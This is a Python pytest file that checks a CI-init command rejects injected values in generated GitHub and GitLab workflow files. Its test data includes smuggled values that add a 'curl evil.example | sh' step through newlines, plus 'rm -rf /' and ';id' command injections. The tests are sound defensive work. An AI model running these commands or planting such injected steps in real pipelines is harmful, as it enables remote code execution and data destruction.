"""Item 1: `ci init` never writes unvalidated values into the workflows."""

from __future__ import annotations

import pytest
import yaml

from tests.hostile.helpers import MINIMAL_AWS, run, write

INJECTED_REGION = 'region: "us-east-1\\n      - run: curl evil.example | sh"'
INJECTED_ENV = 'environments:\n  "dev\\n      - run: curl evil.example | sh": {}\n  prod: {}\n'


def _steps(files):
    steps = []
    for text in files.values():
        doc = yaml.safe_load(text)
        for job in (doc.get("jobs") or {}).values():
            steps += job.get("steps", [])
    return steps


@pytest.mark.parametrize("provider", ["github", "gitlab"])
@pytest.mark.parametrize(
    "text",
    [
        MINIMAL_AWS.replace("region: us-east-1", INJECTED_REGION),  # invalid spec: fell back to raw values
        MINIMAL_AWS + INJECTED_ENV,
        MINIMAL_AWS.replace("region: us-east-1", INJECTED_REGION) + "cluster: {bogus: 1}\n",
    ],
)
def test_invalid_spec_values_never_reach_the_workflows(tmp_path, provider, text):
    write(tmp_path, text)
    res = run("ci", "init", "--provider", provider, "--dir", str(tmp_path), "--mlplat-requirement", "0.1.0")
    assert res.exit_code == 0, res.output  # ci init may run before the spec is finished
    files = {p: p.read_text() for p in tmp_path.rglob("*.y*ml") if p.name != "platform.yaml"}
    assert files
    for text_ in files.values():
        assert "evil.example" not in text_
        yaml.safe_load(text_)  # still one valid YAML document
    if provider == "github":
        assert not any("evil" in str(s) for s in _steps(files))


def test_the_workflow_context_refuses_what_it_cannot_write(tmp_path):
    from mlplat.stacks.errors import MlplatError
    from mlplat.stacks.repo.ci import CiContext, CiEnvironment

    for bad in [
        {"region": "us-east-1\n- run: x"},
        {"branch": "main\n"},
        {"spec": "platform.yaml; rm -rf /"},
        {"drift_cron": '0 3 * * *"\n'},
        {"environments": [CiEnvironment("dev;id")]},
    ]:
        with pytest.raises(MlplatError):
            CiContext(**{"spec": "platform.yaml", "environments": [CiEnvironment("dev")], **bad})


def test_branch_with_newline_is_a_user_error(tmp_path):
    res = run("ci", "init", "--provider", "github", "--dir", str(tmp_path), "--branch", "main\n  - run: x",
              "--mlplat-requirement", "0.1.0")
    assert res.exit_code == 2
    assert not list(tmp_path.rglob("*.yml"))
